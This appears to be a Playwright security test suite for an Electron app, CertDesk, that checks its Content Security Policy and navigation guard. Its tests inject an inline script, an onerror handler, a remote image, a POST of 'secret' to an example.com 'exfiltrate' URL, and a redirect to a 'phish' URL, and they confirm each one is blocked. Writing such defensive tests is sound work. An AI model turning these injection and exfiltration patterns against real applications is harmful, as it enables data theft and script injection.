import { expect, test, type Page } from '@playwright/test';
import { APP_ORIGIN, launchApp } from './harness';

interface Violation {
  directive: string;
  blockedURI: string;
}

/** Starts collecting CSP violation reports in the page; read them back with `violations(page)`. */
async function recordViolations(page: Page): Promise<void> {
  await page.evaluate(() => {
    const w = window as unknown as { __violations: Violation[] };
    w.__violations = [];
    document.addEventListener('securitypolicyviolation', (e) => {
      w.__violations.push({ directive: e.effectiveDirective, blockedURI: e.blockedURI });
    });
  });
}

function violations(page: Page): Promise<Violation[]> {
  return page.evaluate(() => (window as unknown as { __violations: Violation[] }).__violations);
}

test.describe('renderer security (CSP and navigation, in Chromium through the harness)', () => {
  test('the CSP stops an injected inline script from running and reports it', async () => {
    const app = await launchApp();
    try {
      const { page } = app;
      await expect(page.locator('[data-app-state="ready"]')).toBeVisible();
      await recordViolations(page);
      await page.evaluate(() => {
        const script = document.createElement('script');
        script.textContent = 'window.__injected = true;';
        document.body.append(script);
      });
      await expect
        .poll(() => violations(page))
        .toContainEqual({ directive: 'script-src-elem', blockedURI: 'inline' });
      expect(
        await page.evaluate(() => (window as unknown as { __injected?: boolean }).__injected),
      ).toBeUndefined();
    } finally {
      await app.close();
    }
  });

  // eval is not probed here: code run through page.evaluate comes from DevTools, which CSP exempts.
  test('the CSP refuses inline event handlers', async () => {
    const app = await launchApp();
    try {
      const { page } = app;
      await expect(page.locator('[data-app-state="ready"]')).toBeVisible();
      await recordViolations(page);
      await page.evaluate(() => {
        const img = document.createElement('img');
        img.setAttribute('onerror', 'window.__handlerRan = true');
        img.src = 'data:image/png;base64,AAAA';
        document.body.append(img);
      });
      await expect
        .poll(async () => (await violations(page)).map((v) => v.directive))
        .toContain('script-src-attr');
      expect(
        await page.evaluate(() => (window as unknown as { __handlerRan?: boolean }).__handlerRan),
      ).toBeUndefined();
    } finally {
      await app.close();
    }
  });

  test('the CSP blocks a remote image before any request is made', async () => {
    const app = await launchApp();
    try {
      const { page } = app;
      await expect(page.locator('[data-app-state="ready"]')).toBeVisible();
      await recordViolations(page);
      // Registered after the harness's catch-all, so it sees any request to example.com that gets past the
      // renderer: the CSP must stop the image before that.
      const reachedNetwork: string[] = [];
      await page.route('https://example.com/**', (route) => {
        reachedNetwork.push(route.request().url());
        return route.abort('blockedbyclient');
      });
      const failures: string[] = [];
      page.on('requestfailed', (r) => failures.push(`${r.url()} ${r.failure()?.errorText ?? ''}`));
      const loaded = await page.evaluate(
        () =>
          new Promise<boolean>((resolve) => {
            const img = document.createElement('img');
            img.onload = () => resolve(true);
            img.onerror = () => resolve(false);
            img.src = 'https://example.com/x.png';
            document.body.append(img);
          }),
      );
      expect(loaded).toBe(false);
      await expect
        .poll(() => violations(page))
        .toContainEqual({ directive: 'img-src', blockedURI: 'https://example.com/x.png' });
      expect(reachedNetwork).toEqual([]);
      expect(failures).toEqual(['https://example.com/x.png csp']);
    } finally {
      await app.close();
    }
  });

  test('the CSP blocks fetch to a remote host', async () => {
    const app = await launchApp();
    try {
      const { page } = app;
      await expect(page.locator('[data-app-state="ready"]')).toBeVisible();
      await recordViolations(page);
      const outcome = await page.evaluate(() =>
        fetch('https://example.com/exfiltrate', { method: 'POST', body: 'secret' }).then(
          () => 'sent',
          () => 'refused',
        ),
      );
      expect(outcome).toBe('refused');
      await expect
        .poll(async () => (await violations(page)).map((v) => v.directive))
        .toContain('connect-src');
    } finally {
      await app.close();
    }
  });

  test('a hostile navigation to a remote URL leaves the app on its origin with window.certdesk', async () => {
    // Electron prevents such a navigation in will-navigate (security.ts); the harness answers it with a 204,
    // so in both front-ends the page stays.
    const app = await launchApp();
    try {
      const { page } = app;
      await expect(page.locator('[data-app-state="ready"]')).toBeVisible();
      await page.evaluate(() => {
        window.location.href = 'https://example.com/phish';
      });
      // give the refused navigation every chance to commit before checking it did not
      await page.waitForLoadState('load');
      await expect(page.getByRole('heading', { name: 'CertDesk', level: 1 })).toBeVisible();
      expect(new URL(page.url()).origin).toBe(APP_ORIGIN);
      const info = await page.evaluate(() =>
        (
          window as unknown as { certdesk: { app: { info(i: object): Promise<{ ok: boolean }> } } }
        ).certdesk.app.info({}),
      );
      expect(info.ok).toBe(true);
    } finally {
      await app.close();
    }
  });
});
